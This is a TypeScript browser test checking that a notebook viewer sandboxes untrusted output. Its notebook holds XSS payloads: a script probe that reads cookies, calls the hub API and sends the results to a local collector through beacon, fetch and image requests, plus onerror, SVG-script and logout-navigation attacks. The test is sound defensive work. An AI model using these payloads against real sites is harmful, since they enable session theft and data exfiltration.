/**
 * The notebook viewer in Debian's chromium, through a real hub process: alice opens
 * /hub/view/alice/payload.ipynb, whose outputs try everything untrusted output tries —
 * `<script>` reading cookies, calling the hub API and navigating the top page, `<img
 * onerror>`, an SVG with a script, a `data-commandlinker-command` button, popups — and
 * report what they got into their own frames and to a loopback "collector". Nothing may
 * hold a hub cookie or user data, the hub page must stay where it is with none of the
 * payload in its DOM, and the notebook must still render: heading, KaTeX, highlighted
 * code, a PNG.
 */
import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { mkdirSync, writeFileSync } from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import { deflateSync, crc32 } from 'node:zlib';
import type { BrowserContext, Frame, Page } from 'playwright-core';
import { HubProcess } from '@eucp/testing/hub-process';
import { launchChromium, submitHubLogin, type TestBrowser } from '@eucp/testing/chromium';
import { loadConfig, homeRootOf } from '../packages/hub/src/config/index.js';

const ALICE_PW = 'alice-viewer-pw-61c0a';
const VIEW_PATH = '/hub/view/alice/payload.ipynb';
const CANARY = `canary-${Math.random().toString(36).slice(2)}`;

/** A real 96×48 PNG (a colour gradient), so the test can see it decoded with its size. */
function gradientPng(width = 96, height = 48): string {
  const chunk = (type: string, data: Buffer): Buffer => {
    const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
    const out = Buffer.alloc(12 + data.length);
    out.writeUInt32BE(data.length, 0);
    body.copy(out, 4);
    out.writeUInt32BE(crc32(body), 8 + data.length);
    return out;
  };
  const rows = Buffer.alloc((width * 3 + 1) * height);
  for (let y = 0; y < height; y++) {
    for (let x = 0; x < width; x++) rows.set([x * 2, y * 4, 200], y * (width * 3 + 1) + 1 + x * 3);
  }
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr.set([8, 2, 0, 0, 0], 8);
  return Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), chunk('IHDR', ihdr), chunk('IDAT', deflateSync(rows)),
    chunk('IEND', Buffer.alloc(0))]).toString('base64');
}

/** The probe every script output runs: what it could read, written into its own frame, then sent out every way it can. */
function probe(where: string, hub: string, collector: string): string {
  return `(async function () {
  var r = { where: ${JSON.stringify(where)} };
  try { r.cookie = String(document.cookie); } catch (e) { r.cookie = 'blocked: ' + e.name; }
  try { var a = await fetch(${JSON.stringify(`${hub}/hub/api/user`)}, { credentials: 'include' }); r.api = a.status + ' ' + (await a.text()); } catch (e) { r.api = 'blocked: ' + e.name; }
  try { var b = await fetch('/hub/api/user'); r.relativeApi = b.status + ' ' + (await b.text()); } catch (e) { r.relativeApi = 'blocked: ' + e.name; }
  try { r.parentCookie = String(parent.document.cookie); } catch (e) { r.parentCookie = 'blocked: ' + e.name; }
  try { r.topUrl = String(top.location.href); } catch (e) { r.topUrl = 'blocked: ' + e.name; }
  try { top.location.href = ${JSON.stringify(`${hub}/hub/logout`)}; r.topNavigation = 'no error'; } catch (e) { r.topNavigation = 'blocked: ' + e.name; }
  try { r.popup = String(window.open(${JSON.stringify(`${collector}/popup`)})); } catch (e) { r.popup = 'blocked: ' + e.name; }
  var data = encodeURIComponent(JSON.stringify(r));
  try { navigator.sendBeacon(${JSON.stringify(`${collector}/beacon`)}, JSON.stringify(r)); } catch (e) {}
  try { await fetch(${JSON.stringify(`${collector}/fetch?d=`)} + data, { method: 'POST', mode: 'no-cors', body: JSON.stringify(r) }); } catch (e) {}
  new Image().src = ${JSON.stringify(`${collector}/img?d=`)} + data;
  var pre = document.createElement('pre');
  pre.id = 'payload-result';
  pre.textContent = JSON.stringify(r);
  document.body.appendChild(pre);
})();`;
}

function payloadNotebook(hub: string, collector: string, png: string): string {
  const display = (data: Record<string, unknown>) => ({ output_type: 'display_data', metadata: {}, data });
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="60" height="30"><script>top.location.href=${JSON.stringify(`${hub}/hub/logout`)};`
    + `fetch(${JSON.stringify(`${collector}/svg`)})</script><rect width="60" height="30" fill="teal"/></svg>`;
  return JSON.stringify({
    nbformat: 4, nbformat_minor: 5,
    metadata: { kernelspec: { name: 'python3', display_name: 'Python 3', language: 'python' }, language_info: { name: 'python' } },
    cells: [
      { cell_type: 'markdown', metadata: {}, source: '# Regional warming\n\nThe trend $$\\frac{\\partial T}{\\partial t} = \\beta$$ and '
        + `<img src=x onerror="top.location.href='${hub}/hub/logout'"> <script>document.title='markdown script ran'</script>`
        + '<button data-commandlinker-command="filebrowser:delete" data-testid="md-button">Delete everything</button>' },
      { cell_type: 'code', metadata: {}, execution_count: 1, source: 'import xarray as xr\nds = xr.open_dataset("/data/tas.nc")',
        outputs: [display({ 'image/png': png, 'text/plain': '<Figure size 96x48>' })] },
      { cell_type: 'code', metadata: {}, execution_count: 2, source: 'display(HTML(payload))', outputs: [
        display({ 'text/html': `<p>HTML output</p><script>${probe('html-script', hub, collector)}</script>`, 'text/plain': 'x' }),
        display({ 'text/html': `<img src=x onerror="document.body.setAttribute('data-onerror', 'ran'); ${probe('img-onerror', hub, collector).replace(/"/g, '&quot;')}">` }),
        display({ 'image/svg+xml': svg }),
        display({ 'text/html': `<button data-commandlinker-command="terminal:create-new" data-commandlinker-args='{"x":1}' onclick="document.body.setAttribute('data-clicked','yes');top.location.href='${hub}/hub/logout'">Run command</button>` }),
        display({ 'application/javascript': probe('javascript', hub, collector) }),
      ] },
    ],
  });
}

interface Captured { method: string; url: string; cookie: string | undefined; body: string }

describe('notebook viewer: untrusted output stays in the sandbox', { timeout: 300_000 }, () => {
  let hub: HubProcess;
  let chrome: TestBrowser | undefined;
  let browser: BrowserContext;
  let page: Page;
  let collector: http.Server;
  let collectorUrl = '';
  const captured: Captured[] = [];
  const mainFrameUrls: string[] = [];

  before(async () => {
    collector = http.createServer((req, res) => {
      let body = '';
      req.on('data', (c: Buffer) => { body += c.toString(); });
      req.on('end', () => {
        captured.push({ method: req.method ?? '', url: req.url ?? '', cookie: req.headers.cookie, body });
        res.writeHead(204).end();
      });
    });
    await new Promise<void>((resolve) => collector.listen(0, '127.0.0.1', resolve));
    // "localhost", not 127.0.0.1: the browser's 127.0.0.1 cookies (the hub's) are never attached
    // by the browser itself, so anything found here was read and sent by a script.
    collectorUrl = `http://localhost:${(collector.address() as AddressInfo).port}`;
    hub = await HubProcess.start({ toml: '[culler]\nenabled = false\n[storage]\nbackend = "plain"\n' });
    await hub.cli(['user', 'add', 'alice', '--password-stdin'], `${ALICE_PW}\n`);
    const home = path.join(homeRootOf(loadConfig({ file: hub.configFile, env: { EUCP_STATE_DIR: hub.stateDir } })), 'alice');
    mkdirSync(home, { recursive: true });
    writeFileSync(path.join(home, 'payload.ipynb'), payloadNotebook(hub.url, collectorUrl, gradientPng()));
    chrome = await launchChromium();
    browser = chrome.context;
    // A script-readable cookie of the hub's host (like a lab's _xsrf): cookies ignore ports, so
    // only the viewer's opaque origin keeps scripts on the viewer port from reading it.
    await browser.addCookies([{ name: 'eucp-canary', value: CANARY, url: hub.url }]);
    page = browser.pages()[0] ?? (await browser.newPage());
    page.on('framenavigated', (f) => { if (f === page.mainFrame()) mainFrameUrls.push(f.url()); });
  });

  after(async () => {
    await chrome?.close();
    await hub?.destroy();
    await new Promise((resolve) => collector?.close(resolve));
  });

  /** The viewer document inside the hub page. */
  async function viewerFrame(): Promise<Frame> {
    await page.locator('iframe').first().waitFor();
    const handle = await page.locator('iframe').first().elementHandle();
    const frame = await handle!.contentFrame();
    assert.ok(frame);
    await frame.waitForLoadState('load');
    return frame;
  }

  it('logs alice in and shows her notebook page: trusted chrome around one sandboxed iframe on another origin', async () => {
    await page.goto(`${hub.url}${VIEW_PATH}`);
    await page.waitForURL(/\/hub\/login/);
    await submitHubLogin(page, 'alice', ALICE_PW);
    await page.waitForURL((u) => u.pathname === VIEW_PATH);
    await page.getByRole('heading', { name: 'payload.ipynb' }).waitFor();
    await page.getByRole('link', { name: 'Open in my server' }).waitFor();
    const frame = page.locator('iframe');
    assert.equal(await frame.count(), 1);
    assert.equal(await frame.getAttribute('sandbox'), 'allow-scripts allow-popups');
    const src = new URL((await frame.getAttribute('src'))!);
    assert.notEqual(src.origin, new URL(hub.url).origin);
    assert.match(src.pathname, /^\/render\//);
  });

  it('renders the notebook in the frame: the heading, KaTeX with its fonts, highlighted code and the PNG', async () => {
    const frame = await viewerFrame();
    await frame.getByRole('heading', { name: 'Regional warming' }).waitFor();
    const katex = frame.locator('.katex-display .katex-html').first();
    await katex.waitFor();
    assert.ok(((await katex.boundingBox())?.height ?? 0) > 10, 'the formula is laid out');
    // The KaTeX fonts load from the viewer origin (CORS from the sandboxed page's opaque origin).
    await frame.waitForFunction(() => {
      let loaded = false;
      document.fonts.forEach((f) => { if (f.family.replace(/"/g, '') === 'KaTeX_Main' && f.status === 'loaded') loaded = true; });
      return loaded;
    });
    await frame.locator('pre.source .hljs-keyword', { hasText: 'import' }).first().waitFor();
    const png = frame.locator('img.output-image[src^="data:image/png"]');
    await png.waitFor();
    assert.deepEqual(await png.evaluate((img: HTMLImageElement) => [img.complete, img.naturalWidth, img.naturalHeight]), [true, 96, 48]);
    const svg = frame.locator('img.output-svg');
    assert.equal(await svg.evaluate((img: HTMLImageElement) => img.naturalWidth), 60, 'the SVG shows, as an image');
  });

  it('lets scripts in outputs run only inside their own frames, where they read no cookie and reach no API', async () => {
    const frame = await viewerFrame();
    const cookies = await browser.cookies(hub.url);
    const session = cookies.find((c) => c.name === 'eucp-session');
    assert.ok(session, 'alice has a hub session cookie');
    // The HTML output frames size themselves through postMessage.
    await frame.waitForFunction(() => Array.from(document.querySelectorAll('iframe.output-frame')).every((f) => (f as HTMLElement).style.height !== ''));
    const outputs = page.frameLocator('iframe').frameLocator('iframe.output-frame');
    const probes: Array<[string, number]> = [['html-script', 0], ['img-onerror', 1], ['javascript', 3]];
    for (const [where, index] of probes) {
      const text = await outputs.nth(index).locator('#payload-result').textContent();
      const r = JSON.parse(text!) as Record<string, string>;
      assert.equal(r.where, where);
      const all = JSON.stringify(r);
      assert.ok(!all.includes(session.value) && !all.includes(CANARY), `${where} read a hub cookie: ${all}`);
      assert.equal(r.cookie, 'blocked: SecurityError', `${where}: document.cookie`);
      assert.match(r.api!, /^blocked: TypeError$/, `${where}: the hub API`);
      assert.match(r.relativeApi!, /^blocked: TypeError$/, `${where}: a relative API URL`);
      assert.match(r.parentCookie!, /^blocked: SecurityError$/);
      assert.match(r.topUrl!, /^blocked: SecurityError$/);
      assert.match(r.popup!, /^(null|blocked: .*)$/, `${where}: popups`);
      assert.doesNotMatch(all, /"name"\s*:\s*"alice"|"admin"/, 'no user data');
    }
    // The img onerror handler ran — inside its own frame only.
    assert.equal(await outputs.nth(1).locator('body').getAttribute('data-onerror'), 'ran');
  });

  it('clicking a command-linker button does nothing outside its frame; markdown lost its script, handler and button', async () => {
    const frame = await viewerFrame();
    const output = page.frameLocator('iframe').frameLocator('iframe.output-frame').nth(2);
    await output.locator('button[data-commandlinker-command]').click();
    assert.equal(await output.locator('body').getAttribute('data-clicked'), 'yes');
    // The markdown cell: the image stayed, its handler and the script and button did not.
    const md = frame.locator('.markdown-cell').first();
    assert.equal(await md.locator('img').count(), 1);
    assert.equal(await md.locator('img').getAttribute('onerror'), null);
    assert.equal(await md.locator('script, button').count(), 0);
    assert.match(await md.innerText(), /Delete everything/, 'the button text remains as text');
    assert.notEqual(await frame.evaluate(() => document.title), 'markdown script ran');
  });

  it('leaves the hub page where it was, free of the payload, and nothing left with a cookie', async () => {
    assert.equal(new URL(page.url()).pathname, VIEW_PATH, 'the hub page was never navigated');
    assert.ok(mainFrameUrls.every((u) => new URL(u).pathname === VIEW_PATH || new URL(u).pathname === '/hub/login'), mainFrameUrls.join(', '));
    assert.equal(browser.pages().length, 1, 'no popup opened');
    const dom = await page.content();
    for (const needle of ['payload-result', 'onerror', 'commandlinker', '<script', 'Regional warming', 'HTML output', '<svg']) {
      assert.ok(!dom.includes(needle), `the hub page's DOM holds "${needle}"`);
    }
    // Still logged in: no output managed to log alice out.
    const me = await browser.request.get(`${hub.url}/hub/api/user`);
    assert.equal(me.status(), 200);
    assert.equal(((await me.json()) as { name: string }).name, 'alice');
    const session = (await browser.cookies(hub.url)).find((c) => c.name === 'eucp-session')!;
    for (const c of captured) {
      assert.ok(!JSON.stringify(c).includes(session.value) && !JSON.stringify(c).includes(CANARY), `the collector got a hub cookie: ${JSON.stringify(c)}`);
      assert.doesNotMatch(c.url + c.body, /%22name%22%3A%22alice|"name":"alice"/);
    }
  });
});
